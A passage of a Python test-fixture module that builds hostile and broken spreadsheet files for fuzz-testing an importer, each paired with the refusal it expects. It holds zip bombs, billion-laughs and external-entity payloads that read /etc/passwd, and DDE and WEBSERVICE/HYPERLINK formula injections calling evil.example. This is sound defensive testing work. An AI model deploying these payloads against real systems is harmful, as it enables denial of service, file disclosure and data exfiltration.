"""Hostile and broken files for the importers, and what people type into cells.

Three kinds of builders, all returning the file's bytes:

- ``xlsx``: a workbook written part by part, as Excel writes it (shared
  strings, a date style) or with inline strings (as openpyxl writes it), so
  that any cell, dimension or part can be given what a spreadsheet program
  would never write;
- one builder per named hostile case of issue 6 (``HOSTILE``): not a zip, a
  truncated zip, zip bombs, huge declared dimensions, billion laughs,
  password-protected, legacy .xls, empty workbooks, a sheet of 1,048,576
  rows, formulas everywhere, and the structures that exhaust a parser;
- mutators of a real workbook (``mutations``): bytes flipped, inserted or
  cut; XML parts truncated, given entities, dimensions, shared-string
  indices, formulas, cell types, row numbers or garbage; parts dropped or
  swapped; and a survey form given another token or survey id
  (``reidentified``).

The hypothesis strategies at the end draw cell contents: control characters,
right-to-left and other direction marks, combining marks, CJK, huge strings,
formula prefixes, and numbers, dates and booleans where text is expected.
"""

from __future__ import annotations

import base64
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from hypothesis import strategies as st

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORKSHEET_REL = DOC_RELS + "/worksheet"
STRINGS_REL = DOC_RELS + "/sharedStrings"
STYLES_REL = DOC_RELS + "/styles"
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
EXCEL_MAX_ROWS = 1_048_576
_EPOCH = datetime(1899, 12, 30)


@dataclass(frozen=True)
class Formula:
    """A cell holding a formula and, as Excel saves it, its last result."""

    text: str
    cached: Any = None


# -- a workbook written part by part --------------------------------------------------


def excel_escape(text: str) -> str:
    """Text as Excel stores it in XML: characters XML cannot hold (and CR,
    which XML turns into LF) as _xHHHH_; a literal "_x" escaped as _x005F_."""
    text = re.sub(r"_(x[0-9A-Fa-f]{4}_)", r"_x005F_\1", text)
    return re.sub(
        r"[\x00-\x08\x0b-\x1f\ufffe\uffff\ud800-\udfff]",
        lambda m: f"_x{ord(m.group()):04X}_",
        text,
    )


def read_back(text: str, shared: bool) -> str:
    """What openpyxl returns for ``text`` written by ``xlsx``: the escapes
    stay as they are, except that shared strings lose "x005F_"."""
    stored = excel_escape(text)
    return stored.replace("x005F_", "") if shared else stored


def column_letter(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


class _Strings:
    def __init__(self) -> None:
        self.index: dict[str, int] = {}

    def add(self, text: str) -> int:
        return self.index.setdefault(text, len(self.index))

    def xml(self) -> str:
        items = "".join(
            f'<si><t xml:space="preserve">{escape(excel_escape(t))}</t></si>' for t in self.index
        )
        count = len(self.index)
        return f'<sst xmlns="{MAIN}" count="{count}" uniqueCount="{count}">{items}</sst>'


def _text_cell(ref: str, text: str, strings: _Strings | None) -> str:
    if strings is not None:
        return f'<c r="{ref}" t="s"><v>{strings.add(text)}</v></c>'
    inline = escape(excel_escape(text))
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{inline}</t></is></c>'


def cell_xml(ref: str, value: Any, strings: _Strings | None) -> str:
    if value is None:
        return ""
    if isinstance(value, Formula):
        cached, kind = value.cached, ""
        if isinstance(cached, bool):
            cached, kind = int(cached), ' t="b"'
        elif isinstance(cached, str):
            kind = ' t="str"'
        result = "" if cached is None else f"<v>{escape(excel_escape(str(cached)))}</v>"
        return f'<c r="{ref}"{kind}><f>{escape(excel_escape(value.text))}</f>{result}</c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if isinstance(value, datetime | date):
        moment = value if isinstance(value, datetime) else datetime.combine(value, time())
        serial = (moment - _EPOCH).total_seconds() / 86400
        return f'<c r="{ref}" s="1"><v>{serial!r}</v></c>'
    return _text_cell(ref, str(value), strings)


def sheet_xml(
    rows: Sequence[Sequence[Any]],
    strings: _Strings | None,
    *,
    dimension: str | None = "auto",
) -> str:
    """A sheet of ``rows`` from row 1; ``dimension`` "auto" declares their real size."""
    parts = []
    for number, row in enumerate(rows, start=1):
        cells = "".join(
            cell_xml(f"{column_letter(c)}{number}", v, strings) for c, v in enumerate(row, start=1)
        )
        parts.append(f'<row r="{number}">{cells}</row>')
    if dimension == "auto":
        width = max((len(r) for r in rows), default=1)
        dimension = f"A1:{column_letter(max(width, 1))}{max(len(rows), 1)}"
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<worksheet xmlns="{MAIN}" xmlns:r="{DOC_RELS}">{dim}'
        f"<sheetData>{''.join(parts)}</sheetData></worksheet>"
    )


STYLES = (
    f'<styleSheet xmlns="{MAIN}"><numFmts count="0"/>'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    "</cellXfs></styleSheet>"
)


def package(parts: dict[str, bytes | str], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data.encode() if isinstance(data, str) else data)
    return buffer.getvalue()


def workbook_parts(
    sheets: Sequence[tuple[str, str]], *, shared_strings: str | None = None
) -> dict[str, bytes | str]:
    """The parts of a workbook whose sheets' XML is given as is."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{CT}.worksheet+xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    if shared_strings is not None:
        overrides += (
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{CT}.sharedStrings+xml"/>'
        )
    rels = "".join(
        f'<Relationship Id="rId{n}" Type="{WORKSHEET_REL}" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    rels += f'<Relationship Id="rIdS" Type="{STYLES_REL}" Target="styles.xml"/>'
    if shared_strings is not None:
        rels += f'<Relationship Id="rIdT" Type="{STRINGS_REL}" Target="sharedStrings.xml"/>'
    listed = "".join(
        f'<sheet name={quoteattr(title)} sheetId="{n}" r:id="rId{n}"/>'
        for n, (title, _) in enumerate(sheets, start=1)
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{CT}.sheet.main+xml"/>'
            f'<Override PartName="/xl/styles.xml" ContentType="{CT}.styles+xml"/>'
            f"{overrides}</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{DOC_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}"><sheets>{listed}</sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELS}">{rels}</Relationships>',
        "xl/styles.xml": STYLES,
    }
    for number, (_, xml) in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{number}.xml"] = xml
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    return parts


def xlsx(
    sheets: Sequence[tuple[str, Sequence[Sequence[Any]]]],
    *,
    shared: bool = True,
    dimension: str | None = "auto",
) -> bytes:
    """A workbook of the given sheets (title, rows); text as shared strings
    (as Excel writes it) or inline (as openpyxl writes it)."""
    strings = _Strings() if shared else None
    xml = [(title, sheet_xml(rows, strings, dimension=dimension)) for title, rows in sheets]
    return package(workbook_parts(xml, shared_strings=strings.xml() if strings else None))


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def with_parts(data: bytes, **changes: bytes | str | None) -> bytes:
    """``data`` with parts replaced (None: removed). Part names use "__" for "/"
    and "_dot_" for "." in keyword form; see ``replace_parts`` for plain names."""
    return replace_parts(
        data, {k.replace("__", "/").replace("_dot_", "."): v for k, v in changes.items()}
    )


def replace_parts(data: bytes, changes: dict[str, bytes | str | None]) -> bytes:
    parts: dict[str, bytes | str] = dict(parts_of(data))
    for name, value in changes.items():
        if value is None:
            parts.pop(name, None)
        else:
            parts[name] = value
    return package(parts)


# -- the named hostile cases ------------------------------------------------------------

REGISTRATION_HEADER = ["Surname", "Given name", "E-mail", "Organisation"]


def plain_list(rows: int = 3) -> bytes:
    """A small, valid registration list (Excel style)."""
    body = [[f"Family{n}", f"Given{n}", f"p{n}@fuzz.example", "Japan Customs"] for n in range(rows)]
    return xlsx([("Registrations", [REGISTRATION_HEADER, *body])])


def not_a_zip() -> bytes:
    return b"Surname,Given name\r\nThis is plain text that was named .xlsx\r\n"


def pdf_named_xlsx() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" * 20


def truncated_zip() -> bytes:
    data = plain_list(20)
    return data[: len(data) * 2 // 3]


def zip_header_only() -> bytes:
    return b"PK\x03\x04" + b"\0" * 300


def empty_zip() -> bytes:
    return package({})


def zip_bomb() -> bytes:
    """One part that unpacks to 200 MB of blanks (it grows a thousand times)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, value in workbook_parts([("Sheet1", sheet_xml([["Surname"]], None))]).items():
            archive.writestr(name, value)
        with archive.open("xl/worksheets/sheet2.xml", "w") as sheet:
            chunk = b" " * 1_000_000
            for _ in range(200):
                sheet.write(chunk)
    return buffer.getvalue()


def quiet_zip_bomb() -> bytes:
    """A thousand parts of 150 kB each, each below the ratio check's size,
    together past the unpacked limit."""
    parts: dict[str, bytes | str] = dict(
        workbook_parts([("Sheet1", sheet_xml([["Surname"]], None))])
    )
    filler = b"<x/>" * 37_500
    for number in range(1_000):
        parts[f"xl/media/filler{number}.xml"] = filler
    return package(parts, compression=zipfile.ZIP_DEFLATED)


def lying_zip_bomb() -> bytes:
    """A part whose directory entry declares 1 kB but whose data unpacks to
    far more: the size check believes it, the unpacking must not."""
    data = bytearray(plain_list())
    big = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = big.compress(b"<row/>" * 2_000_000) + big.flush()
    name = b"xl/worksheets/sheet2.xml"
    local = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(payload), 1_000, len(name), 0
    )
    # Prepend the lying entry; the central directory that follows still lists the
    # real parts at their old offsets, so shift them.
    shift = len(local) + len(name) + len(payload)
    central = data.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<L", data, central + 16)[0]
    cd_size = struct.unpack_from("<L", data, central + 12)[0]
    count = struct.unpack_from("<H", data, central + 10)[0]
    position = cd_offset
    for _ in range(count):
        offset = struct.unpack_from("<L", data, position + 42)[0]
        struct.pack_into("<L", data, position + 42, offset + shift)
        position += 46 + sum(struct.unpack_from("<3H", data, position + 28))
    entry = struct.pack(
        "<4s6H3L5H2L",
        b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(payload), 1_000, len(name), 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    struct.pack_into("<L", data, central + 16, cd_offset + shift)
    struct.pack_into("<L", data, central + 12, cd_size + len(entry) + len(name))
    struct.pack_into("<2H", data, central + 8, count + 1, count + 1)
    central_directory = data[cd_offset:central] + entry + name
    return bytes(local + name + payload + data[:cd_offset] + central_directory + data[central:])


def encrypted_zip_entry() -> bytes:
    """A workbook whose sheet is marked encrypted (a zip password, as 7-Zip sets)."""
    data = bytearray(plain_list())
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            struct.pack_into("<H", data, start + flag_at, 1)
            start += 4
    return bytes(data)


def _ole2(streams: Sequence[str]) -> bytes:
    """An OLE2 compound file header naming ``streams`` (as .xls files and
    password-protected .xlsx files are), padded to a few sectors."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)
    directory = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 2 * len(name) + 2).ljust(64)
        for name in streams
    )
    return bytes(header) + directory.ljust(4096, b"\0")


def legacy_xls() -> bytes:
    return _ole2(["Root Entry", "Workbook", "\x05SummaryInformation"])


def password_protected() -> bytes:
    return _ole2(["Root Entry", "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"])


def empty_file() -> bytes:
    return b""


def empty_workbook() -> bytes:
    return xlsx([("Sheet1", [])])


def workbook_without_sheets() -> bytes:
    return package(
        {
            **workbook_parts([]),
            "xl/workbook.xml": f'<workbook xmlns="{MAIN}"><sheets/></workbook>',
        }
    )


def huge_dimensions() -> bytes:
    """Three real rows in a sheet that declares all 1,048,576 x 16,384 cells."""
    rows = [REGISTRATION_HEADER, ["Tanaka", "Ken", "k.tanaka@fuzz.example", "Japan Customs"]]
    return xlsx([("Registrations", rows)], dimension="A1:XFD1048576")


def far_cells() -> bytes:
    """A header, one person, and stray cells at the last column and the last row."""
    strings = _Strings()
    body = sheet_xml(
        [REGISTRATION_HEADER, ["Tanaka", "Ken", "k.tanaka@fuzz.example", ""]],
        strings,
        dimension="A1:XFD1048576",
    ).replace(
        "</sheetData>",
        f'<row r="{EXCEL_MAX_ROWS}"><c r="XFD{EXCEL_MAX_ROWS}" t="inlineStr"><is><t>end'
        "</t></is></c></row></sheetData>",
    )
    return package(workbook_parts([("Registrations", body)], shared_strings=strings.xml()))


def rows_past_excel() -> bytes:
    body = sheet_xml([REGISTRATION_HEADER], None).replace(
        "</sheetData>",
        '<row r="5000000"><c r="A5000000"><v>1</v></c></row></sheetData>',
    )
    return package(workbook_parts([("Registrations", body)]))


def _with_doctype(xml: str, doctype: str) -> str:
    return xml.replace("<worksheet", doctype + "<worksheet", 1)


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    + "]>"
)


def billion_laughs() -> bytes:
    body = sheet_xml([["Surname"], ["&lol9;"]], None).replace("&amp;lol9;", "&lol9;")
    return package(workbook_parts([("Registrations", _with_doctype(body, LAUGHS))]))


def external_entity() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = sheet_xml([["Surname"], ["&xxe;"]], None).replace("&amp;xxe;", "&xxe;")
    return package(workbook_parts([("Registrations", _with_doctype(body, doctype))]))


def laughs_in_shared_strings() -> bytes:
    strings = (
        f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="{MAIN}"><si><t>Surname</t></si>'
        "<si><t>&lol9;</t></si></sst>"
    )
    body = sheet_xml([], None).replace(
        "<sheetData></sheetData>",
        '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>1</v></c></row></sheetData>',
    )
    return package(workbook_parts([("Registrations", body)], shared_strings=strings))


def million_rows() -> bytes:
    """A sheet of 1,048,576 filled rows, as Excel writes it (shared strings,
    a dimension, every row numbered)."""
    strings = (
        f'<sst xmlns="{MAIN}" count="2" uniqueCount="2">'
        "<si><t>Surname</t></si><si><t>Name</t></si></sst>"
    )
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>1</v></c></row>' for n in range(2, EXCEL_MAX_ROWS + 1)
    )
    body = (
        f'<worksheet xmlns="{MAIN}"><dimension ref="A1:A{EXCEL_MAX_ROWS}"/><sheetData>'
        f'<row r="1"><c r="A1" t="s"><v>0</v></c></row>{rows}</sheetData></worksheet>'
    )
    return package(workbook_parts([("Registrations", body)], shared_strings=strings))


def formulas_everywhere() -> bytes:
    """Every cell a formula, the header too: sums, links, DDE and web calls."""
    texts = [
        'HYPERLINK("http://evil.example/?"&A1,"Click")',
        "cmd|' /C calc'!A0",
        'WEBSERVICE("http://evil.example/")',
        "SUM(1,2)",
        '"Tanaka"',
        "A1&B1",
    ]
    header = [Formula(f'"{h}"', h) for h in REGISTRATION_HEADER]
    rows = [[Formula(texts[(r + c) % len(texts)], f"v{r}{c}") for c in range(4)] for r in range(5)]
    return xlsx([("Registrations", [header, *rows])])


def names_with_marks() -> bytes:
    """Names with right-to-left marks, direction overrides, combining marks and CJK."""
    rows = [
        REGISTRATION_HEADER,
        ["\u202eAHMED", "\u200fمحمد\u200f", "m.ahmed@fuzz.example", ""],
        ["Nguye\u0302\u0303n", "Va\u0306n An", "v.an@fuzz.example", ""],
        ["陳\u200e", "大文", "dm.chan@fuzz.example", ""],
        ["\u2067שרה\u2069", "Levi\u200e", "s.levi@fuzz.example", ""],
    ]
    return xlsx([("Registrations", rows)])


def marks_alone() -> bytes:
    """Two people of an organisation whose name is a lone accent: it folds to
    nothing, yet is one organisation (found by the fuzzer: it was created twice)."""
    rows = [
        REGISTRATION_HEADER,
        ["Tanaka", "Ken", "k.tanaka@fuzz.example", "\u0300"],
        ["Sato", "Yuki", "y.sato@fuzz.example", "\u0300"],
    ]
    return xlsx([("Registrations", rows)])


def control_characters_in_names() -> bytes:
    """A CSV list (the one format that can carry them raw) with control characters in names."""
    lines = [
        ",".join(REGISTRATION_HEADER),
        "Tan\x07aka,Ken,k.tanaka@fuzz.example,",
        "Sa\x1bto,Yu\x08ki,y.sato@fuzz.example,",
        "Ito,Ke\x0bn,k.ito@fuzz.example,",
    ]
    return "\r\n".join(lines).encode()


def huge_names() -> bytes:
    """Names far longer than any column, which a database refuses to search for."""
    rows = [
        REGISTRATION_HEADER,
        ["陳" * 40_000, "Ken", "k.chan@fuzz.example", ""],
        ["Sato", "Yuki", "y" * 60_000 + "@fuzz.example", ""],
        ["Ito", "Ken", "k.ito@fuzz.example", "Customs " * 8_000],
    ]
    return xlsx([("Registrations", rows)])


def nul_in_csv() -> bytes:
    return b"Surname,Given name\r\nTa\x00naka,Ken\r\n"


def garbage_beside_rows() -> bytes:
    """Hundreds of thousands of tiny elements in a sheet, outside its rows,
    where the parser keeps every one (varied, so the ratio check passes)."""
    garbage = "".join(f'<x a="{n:x}"/>' for n in range(300_000))
    body = sheet_xml([["Surname"], ["Tanaka"]], None).replace(
        "<sheetData>", f"<sheetData>{garbage}"
    )
    return package(workbook_parts([("Registrations", body)]))


def bloated_styles() -> bytes:
    """A styles part of 300,000 formats: read whole by the parser."""
    xfs = "".join(f'<xf numFmtId="{n % 50}" fontId="0"/>' for n in range(300_000))
    styles = STYLES.replace('<cellXfs count="2">', f'<cellXfs count="300002">{xfs}')
    return with_parts(plain_list(), xl__styles_dot_xml=styles)


def huge_text_in_styles() -> bytes:
    """A styles part (read whole) carrying 20 MB of text that does not compress."""
    noise = base64.b64encode(random.Random(7).randbytes(15_000_000)).decode()
    styles = STYLES.replace(
        "</styleSheet>", f'<extLst><ext uri="x">{noise}</ext></extLst></styleSheet>'
    )
    return with_parts(plain_list(), xl__styles_dot_xml=styles)


def endless_row() -> bytes:
    """One row of 200,000 cells (Excel's rows end at 16,384)."""
    cells = "".join(f'<c r="A1"><v>{n}</v></c>' for n in range(200_000))
    body = sheet_xml([], None).replace(
        "<sheetData></sheetData>", f'<sheetData><row r="1">{cells}</row></sheetData>'
    )
    return package(workbook_parts([("Registrations", body)]))


def deep_nesting() -> bytes:
    body = sheet_xml([["Surname"], ["Tanaka"]], None).replace(
        "</sheetData>", "</sheetData>" + "<x>" * 5_000 + "</x>" * 5_000
    )
    return package(workbook_parts([("Registrations", body)]))


def rows_in_a_foreign_namespace() -> bytes:
    """Rows the parser does not recognise as rows, so never clears."""
    rows = "".join(
        f'<e:row r="{n}"><e:c r="A{n}"><e:v>{n}</e:v></e:c></e:row>' for n in range(1, 120_000)
    )
    body = sheet_xml([["Surname"]], None).replace(
        "</sheetData>", f'<e:bag xmlns:e="urn:evil">{rows}</e:bag></sheetData>'
    )
    return package(workbook_parts([("Registrations", body)]))


def too_many_rows() -> bytes:
    body = [[f"Name{n}", f"Given{n}"] for n in range(100_001)]
    return xlsx([("Registrations", [["Surname", "Given name"], *body])], shared=False)


def chart_sheet_on_a_big_part() -> bytes:
    """A relationship that makes the parser read a big sheet whole, as a chart sheet."""
    data = xlsx([("Registrations", [REGISTRATION_HEADER, *[[f"N{n}"] for n in range(60_000)]])])
    rels = parts_of(data)["xl/_rels/workbook.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdC" Type="{DOC_RELS}/chartsheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>',
    )
    workbook = (
        parts_of(data)["xl/workbook.xml"]
        .decode()
        .replace("</sheets>", '<sheet name="Chart" sheetId="9" r:id="rIdC"/></sheets>')
    )
    return replace_parts(data, {"xl/_rels/workbook.xml.rels": rels, "xl/workbook.xml": workbook})


@dataclass(frozen=True)
class Hostile:
    """A named hostile file: how to build it, words the importer's refusal
    must contain (None: the list must be imported), its file name suffix, and
    whether it is big enough to run with the slow tests only."""

    name: str
    build: Callable[[], bytes]
    refusal: str | None
    suffix: str = ".xlsx"
    slow: bool = False


HOSTILE = [
    Hostile("not a zip", not_a_zip, "neither an Excel workbook"),
    Hostile("a PDF named .xlsx", pdf_named_xlsx, "neither an Excel workbook"),
    Hostile("an empty file", empty_file, "is empty"),
    Hostile("a truncated zip", truncated_zip, "damaged or incomplete"),
    Hostile("a zip header and nothing else", zip_header_only, "damaged or incomplete"),
    Hostile("an empty zip", empty_zip, "neither an Excel workbook"),
    Hostile("a zip bomb", zip_bomb, "refused unopened"),
    Hostile("a zip bomb of a thousand parts", quiet_zip_bomb, "refused unopened"),
    Hostile("a zip bomb that lies about its size", lying_zip_bomb, "damaged"),
    Hostile("a zip with a password", encrypted_zip_entry, "password"),
    Hostile("a legacy .xls", legacy_xls, "legacy Excel (.xls)", suffix=".xls"),
    Hostile("a password-protected workbook", password_protected, "password-protected"),
    Hostile("an empty workbook", empty_workbook, "no header row"),
    Hostile("a workbook without sheets", workbook_without_sheets, "no sheets"),
    Hostile("huge declared dimensions", huge_dimensions, None),
    # The stray cell is read, not dropped: its row names nobody.
    Hostile(
        "cells at the last row and column", far_cells, "row 1048576, column 'Surname': missing"
    ),
    Hostile("rows past Excel's last row", rows_past_excel, "past row 1,048,576"),
    Hostile("billion laughs", billion_laughs, "entity tricks"),
    Hostile("an external entity", external_entity, "entity tricks"),
    Hostile("billion laughs in the shared strings", laughs_in_shared_strings, "entity tricks"),
    Hostile("formulas everywhere", formulas_everywhere, "formula"),
    Hostile("names with direction and combining marks", names_with_marks, None),
    Hostile("an organisation named by an accent alone", marks_alone, None),
    Hostile(
        "control characters in names",
        control_characters_in_names,
        "contains control characters",
        suffix=".csv",
    ),
    Hostile("a NUL character in a CSV", nul_in_csv, "NUL character", suffix=".csv"),
    Hostile("names of 40,000 characters", huge_names, "characters long; at most"),
    Hostile("elements beside the rows", garbage_beside_rows, "XML elements"),
    Hostile("bloated styles", bloated_styles, "XML elements"),
    Hostile("20 MB of text in the styles", huge_text_in_styles, "far larger than a workbook's"),
    Hostile("an endless row", endless_row, "far larger than a spreadsheet writes"),
    Hostile("deep nesting", deep_nesting, "deep"),
    Hostile("rows in a foreign namespace", rows_in_a_foreign_namespace, "XML elements"),
    Hostile("a chart sheet over a big sheet", chart_sheet_on_a_big_part, "XML elements"),
    Hostile("100,001 rows", too_many_rows, "more than 100,000 rows", slow=True),
    Hostile("a sheet of 1,048,576 rows", million_rows, "more than 100,000 rows", slow=True),
]


# -- mutations of a real workbook -------------------------------------------------------


@st.composite
def byte_mutation(draw: st.DrawFn, data: bytes) -> tuple[str, bytes]:
    """Bytes of the file flipped, inserted, deleted or cut off."""
    kind = draw(st.sampled_from(["flip", "insert", "delete", "truncate", "duplicate"]))
    at = draw(st.integers(0, len(data) - 1))
    if kind == "flip":
        buffer = bytearray(data)
        for _ in range(draw(st.integers(1, 8))):
            spot = draw(st.integers(0, len(data) - 1))
            buffer[spot] ^= draw(st.integers(1, 255))
        return kind, bytes(buffer)
    if kind == "insert":
        return kind, data[:at] + draw(st.binary(min_size=1, max_size=64)) + data[at:]
    if kind == "delete":
        return kind, data[:at] + data[at + draw(st.integers(1, 512)) :]
    if kind == "truncate":
        return kind, data[:at]
    size = draw(st.integers(1, 2048))
    return kind, data[:at] + data[at : at + size] * draw(st.integers(2, 4)) + data[at:]


_CELL_VALUE = re.compile(r'(<c\b[^>]*\bt="s"[^>]*>\s*<v>)(\d+)(</v>)')
_CELL_OPEN = re.compile(r"<c\b([^>]*?)(/?)>")
_TEXT = re.compile(r"(<t\b[^>]*>)([^<]*)(</t>)")


def _sub_nth(
    pattern: re.Pattern[str], xml: str, n: int, replace: Callable[[re.Match[str]], str]
) -> str:
    matches = list(pattern.finditer(xml))
    if not matches:
        return xml
    match = matches[n % len(matches)]
    return xml[: match.start()] + replace(match) + xml[match.end() :]


@st.composite
def xml_mutation(draw: st.DrawFn, xml: str) -> tuple[str, str]:
    """One XML part changed the way a careless tool, a broken disk or an attacker would."""
    kind = draw(
        st.sampled_from(
            [
                "truncate", "doctype", "dimension", "string index", "formula", "cell type",
                "row number", "cell reference", "garbage", "text", "drop element",
                "duplicate rows", "bad attribute",
            ]
        )
    )  # fmt: skip
    n = draw(st.integers(0, 10_000))
    if kind == "truncate":
        return kind, xml[: draw(st.integers(0, max(len(xml) - 1, 0)))]
    if kind == "doctype":
        doctype = draw(
            st.sampled_from(
                [
                    LAUGHS,
                    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
                    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
                    "<!DOCTYPE x>",
                ]
            )
        )
        start = xml.find("<", xml.find("?>") + 1 if xml.startswith("<?xml") else 0)
        return kind, xml[:start] + doctype + xml[start:]
    if kind == "dimension":
        ref = draw(
            st.sampled_from(["A1:XFD1048576", "A1", "ZZZZ99999999", "", "B2:A1", "A0:A0", "-1"])
        )
        return kind, re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', xml)
    if kind == "string index":
        index = draw(
            st.one_of(
                st.integers(-3, 20),
                st.integers(10**6, 10**30),
                st.sampled_from(["", "x", "1.5", "1e3", "-0", " 1"]),
            )
        )
        return kind, _sub_nth(_CELL_VALUE, xml, n, lambda m: f"{m[1]}{index}{m[3]}")
    if kind == "formula":
        formula = draw(
            st.sampled_from(
                [
                    "SUM(A1:A3)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example")',
                    "1/0", "", "A1" * 500, '"' + "x" * 300 + '"',
                ]
            )
        )  # fmt: skip
        return kind, _sub_nth(
            _CELL_OPEN,
            xml,
            n,
            lambda m: (
                f"<c{m[1]}><f>{escape(formula)}</f><v>1</v></c><c{m[1]}{m[2]}>"
                if not m[2]
                else f"<c{m[1]}><f>{escape(formula)}</f></c>"
            ),
        )
    if kind == "cell type":
        kind_to = draw(st.sampled_from(["s", "b", "n", "e", "str", "inlineStr", "d", "zz", ""]))
        return kind, _sub_nth(
            _CELL_OPEN,
            xml,
            n,
            lambda m: "<c" + re.sub(r'\st="[^"]*"', "", m[1]) + f' t="{kind_to}"' + m[2] + ">",
        )
    if kind == "row number":
        number = draw(
            st.sampled_from(["0", "-5", "1", "1048576", "1048577", "99999999999", "x", "2.5", ""])
        )
        return kind, _sub_nth(
            re.compile(r'<row\b[^>]*?\br="[^"]*"'),
            xml,
            n,
            lambda m: re.sub(r'\br="[^"]*"', f'r="{number}"', m[0]),
        )
    if kind == "cell reference":
        ref = draw(st.sampled_from(["XFD1", "A0", "ZZZZ1", "1A", "", "A1048577", "$A$1", "a1"]))
        return kind, _sub_nth(
            _CELL_OPEN,
            xml,
            n,
            lambda m: "<c" + re.sub(r'\sr="[^"]*"', f' r="{ref}"', m[1]) + m[2] + ">",
        )
    if kind == "garbage":
        garbage = draw(
            st.sampled_from(
                ["<x/>", "<row/>", "<c><v>1</v></c>", "<!-- comment -->", "<?pi x?>", "text"]
            )
        )
        count = draw(st.integers(1, 2_000))
        at = draw(st.integers(0, len(xml)))
        at = xml.rfind(">", 0, at) + 1
        return kind, xml[:at] + garbage * count + xml[at:]
    if kind == "text":
        text = draw(cell_text())
        return kind, _sub_nth(_TEXT, xml, n, lambda m: m[1] + escape(excel_escape(text)) + m[3])
    if kind == "drop element":
        tag = draw(
            st.sampled_from(["sheetData", "sheets", "sheet", "row", "c", "v", "si", "cellXfs"])
        )
        return kind, re.sub(rf"<{tag}\b[^>]*?(/>|>.*?</{tag}>)", "", xml, count=1, flags=re.S)
    if kind == "duplicate rows":
        match = re.search(r"<row\b.*?</row>", xml, re.S)
        if match is None:
            return kind, xml
        copies = draw(st.integers(2, 3_000))
